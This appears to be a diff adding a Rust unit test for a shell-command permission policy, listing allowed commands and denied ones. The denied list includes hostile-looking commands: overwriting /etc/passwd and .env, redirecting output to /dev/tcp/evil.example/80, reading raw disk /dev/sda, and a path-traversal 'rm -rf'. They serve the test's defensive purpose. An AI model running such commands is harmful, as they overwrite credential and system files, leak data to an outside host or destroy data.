@@ -247,3 +247,31 @@ fn a_file_within_a_script_or_a_template_is_a_place() {
         ],
     );
 }
+
+#[test]
+fn what_opens_nothing_of_anybody_is_no_place_and_a_redirection_writes_where_places_are_granted() {
+    judges(
+        &[
+            "echo x > out.txt",
+            "cargo test 2>&1 >> build/log",
+            "head -c 16 /dev/urandom",
+            "dd if=/dev/zero of=out count=1",
+            "[ \"$a\" = \"/etc\" ]",
+            "[[ $a == /etc/* ]] && ls",
+        ],
+        &[
+            "echo x > /etc/passwd",
+            "echo x > .env",
+            "echo x > secret/a",
+            "echo x > $X",
+            "echo x > /dev/tcp/evil.example/80",
+            "head -c 16 /dev/sda",
+            "[ -f /etc/passwd ]",
+            "rm -rf /dev/zero/../../etc",
+        ],
+    );
+    let without_places =
+        Under::policy("servers: { sh: { tools: { exec: { args: { command: { commands: [\"**\"] } } } } } }");
+    without_places.allows("sh", "exec", json!({"command": "echo x"}));
+    without_places.denies_any("sh", "exec", json!({"command": "echo x > out.txt"}));
+}
